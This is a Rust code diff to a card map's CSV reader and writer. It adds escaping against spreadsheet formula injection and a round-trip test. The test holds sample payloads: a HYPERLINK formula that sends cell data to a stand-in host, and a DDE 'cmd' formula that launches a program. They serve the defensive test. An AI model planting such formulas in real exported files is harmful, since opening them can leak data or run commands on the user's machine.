@@ -179,7 +179,8 @@ pub fn read(
             break;
         }
         let value = |field: Field| -> &str {
-            fields.iter().position(|f| *f == Some(field)).and_then(|i| record.get(i)).unwrap_or("").trim()
+            unescaped(fields.iter().position(|f| *f == Some(field)).and_then(|i| record.get(i)).unwrap_or(""))
+                .trim()
         };
         let (stage, card_title) = (value(Field::Stage), value(Field::Title));
         if stage.is_empty() || card_title.is_empty() {
@@ -199,7 +200,7 @@ pub fn read(
         let title_text = bounded(card_title, line, "the title", &mut warnings);
         let mut notes = bounded(value(Field::Notes), line, "the notes", &mut warnings);
         for (i, header) in headers.iter().enumerate() {
-            let extra = record.get(i).unwrap_or("").trim();
+            let extra = unescaped(record.get(i).unwrap_or("")).trim();
             if fields[i].is_none() && !extra.is_empty() && !header.trim().is_empty() {
                 if !notes.is_empty() {
                     notes.push('\n');
@@ -283,8 +284,33 @@ fn is_yes(value: &str) -> bool {
     matches!(value.trim().to_lowercase().as_str(), "yes" | "y" | "true" | "1" | "x" | "✓" | "ja" | "ya")
 }
 
+/// What a spreadsheet reads as the start of a formula: a cell beginning with one of these runs
+/// when the file is opened (`=HYPERLINK(...)` sending the sheet's data away).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether a cell starts like a formula, counting apostrophes written before one (so that a
+/// text that really starts with `'=` survives the round trip).
+fn starts_like_formula(cell: &str) -> bool {
+    cell.trim_start_matches('\'').starts_with(FORMULA_STARTS) && cell.parse::<f64>().is_err()
+}
+
+/// A cell as written: one that a spreadsheet would run as a formula gets a leading apostrophe,
+/// which spreadsheets show as text and do not display.
+fn escaped(cell: String) -> String {
+    if starts_like_formula(&cell) { format!("'{cell}") } else { cell }
+}
+
+/// A cell as read: the apostrophe [`escaped`] put before a formula's first character comes off.
+fn unescaped(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if starts_like_formula(rest) => rest,
+        _ => cell,
+    }
+}
+
 /// The map's cards as CSV (or with another `separator`, tab for TSV), one row per card in
-/// canonical order, with the columns `read` knows.
+/// canonical order, with the columns `read` knows. Cells a spreadsheet would run as formulas
+/// are written as text (see [`escaped`]).
 pub fn write(map: &Map, separator: u8) -> String {
     let mut writer = ::csv::WriterBuilder::new().delimiter(separator).from_writer(Vec::new());
     let header: Vec<&str> = COLUMNS.iter().map(|c| c.1).collect();
@@ -313,7 +339,8 @@ pub fn write(map: &Map, separator: u8) -> String {
             flag(card, Flag::WaitPoint),
             card.evidence.map(|e| e.label().to_owned()).unwrap_or_default(),
             card.image.clone().unwrap_or_default(),
-        ];
+        ]
+        .map(escaped);
         let _ = writer.write_record(&row);
     }
     String::from_utf8(writer.into_inner().unwrap_or_default()).unwrap_or_default()
@@ -395,6 +422,44 @@ mod tests {
         assert!(text.lines().next().unwrap().ends_with(",image"), "{text}");
         let back = read_ok(&text).map;
         assert_eq!(back.cards[0].image.as_deref(), Some("shots/checkout.png"));
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_they_were() {
+        let mut map = crate::templates::load("ecommerce").unwrap();
+        let titles = [
+            "=HYPERLINK(\"http://example.invalid/?d=\"&A1)",
+            "+1 555 0100",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "'=already quoted",
+            "''@twice",
+            "\tcmd",
+            "it's fine",
+        ];
+        for (card, title) in map.cards.iter_mut().zip(titles) {
+            card.title = title.to_owned();
+        }
+        map.cards[0].owner = "=cmd|' /C calc'!A0".into();
+        map.cards[0].metrics.nps = Some(-12.0);
+        let text = write(&map, b',');
+        let mut reader = ::csv::ReaderBuilder::new().from_reader(text.as_bytes());
+        for record in reader.records() {
+            for cell in &record.unwrap() {
+                assert!(
+                    !cell.starts_with(FORMULA_STARTS) || cell.parse::<f64>().is_ok(),
+                    "{cell:?} would run in a spreadsheet"
+                );
+            }
+        }
+        assert!(text.contains(",-12,"), "numbers stay numbers: {text}");
+        let back = read_ok(&text).map;
+        let mut read: Vec<&str> = back.cards.iter().map(|c| c.title.as_str()).collect();
+        let mut wrote: Vec<&str> = map.cards.iter().map(|c| c.title.trim()).collect();
+        read.sort_unstable();
+        wrote.sort_unstable();
+        assert_eq!(read, wrote);
+        assert!(back.cards.iter().any(|c| c.owner == "=cmd|' /C calc'!A0"));
     }
 
     #[test]
